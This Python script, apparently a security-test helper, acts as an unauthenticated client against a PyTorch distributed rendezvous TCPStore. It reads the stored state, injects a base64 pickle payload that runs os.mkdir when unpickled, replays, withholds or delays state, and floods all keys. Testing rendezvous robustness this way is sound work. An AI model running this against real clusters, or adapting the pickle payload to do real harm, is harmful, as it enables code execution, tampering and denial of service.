"""What somebody does to the store of a rendezvous who reaches its port: a client like any other, without the key.

usage: store_attacker.py ADDRESS PORT RUN_ID DEED [FILE]

Prints what it found. A deed that is to be done for a while is done for SECONDS.
"""

from __future__ import annotations

import base64
import os
import pickle
import sys
import time
from datetime import timedelta
from pathlib import Path

from torch.distributed import TCPStore  # type: ignore[attr-defined]  # torch's stubs lack it

SECONDS = 8.0
PAUSE_S = 0.05
ABSENT = "nothing of the kind"
STATE = "torch.rendezvous."


class Bomb:
    """Touches a file when it is unpickled."""

    def __init__(self, path: str) -> None:
        self.path = path

    def __reduce__(self) -> tuple[object, tuple[str]]:
        """Tell how it is to be made again."""
        return os.mkdir, (self.path,)


def main(address: str, port: str, run_id: str, deed: str, file: str = "") -> None:
    store = TCPStore(address, int(port), is_master=False, timeout=timedelta(seconds=10))
    key = STATE + run_id
    found = store.compare_set(key, ABSENT, ABSENT)
    print(found.decode("latin-1"), flush=True)
    if deed == "read":
        Path(file).write_bytes(found)
    elif deed == "bomb":
        charge = base64.b64encode(pickle.dumps(Bomb(file))).decode()
        # As a whole, and in each place where somebody might look for a state in what was there.
        forms = [charge, charge + found.decode("latin-1")[len(charge) :]]
        forms += [".".join([charge if i == k else part for i, part in enumerate(found.decode("latin-1").split("."))])
                  for k in range(found.count(b".") + 1)]  # fmt: skip
        for form in forms:
            store.set(key, form)
            time.sleep(2.0)
    elif deed == "replay":
        earlier = Path(file).read_bytes()
        for _turn in range(4):
            store.set(key, earlier.decode("latin-1"))
            time.sleep(2.0)
    elif deed == "hold":  # Takes it away, and gives it back as it was.
        for _turn in range(4):
            kept = store.compare_set(key, ABSENT, ABSENT)
            store.delete_key(key)
            time.sleep(1.5)
            store.set(key, kept.decode("latin-1"))
            time.sleep(1.0)
    elif deed == "delay":  # Each state comes back some time after it was replaced.
        for _turn in range(4):
            kept = store.compare_set(key, ABSENT, ABSENT)
            time.sleep(2.0)
            store.set(key, kept.decode("latin-1"))
    elif deed == "flood":  # Whatever is there, and not only the state.
        until = time.monotonic() + SECONDS
        while time.monotonic() < until:
            for name in store.list_keys():
                store.set(name, "garbage" * 100)
            time.sleep(PAUSE_S)
    else:
        raise SystemExit(f"no such deed: {deed}")


if __name__ == "__main__":
    main(*sys.argv[1:])
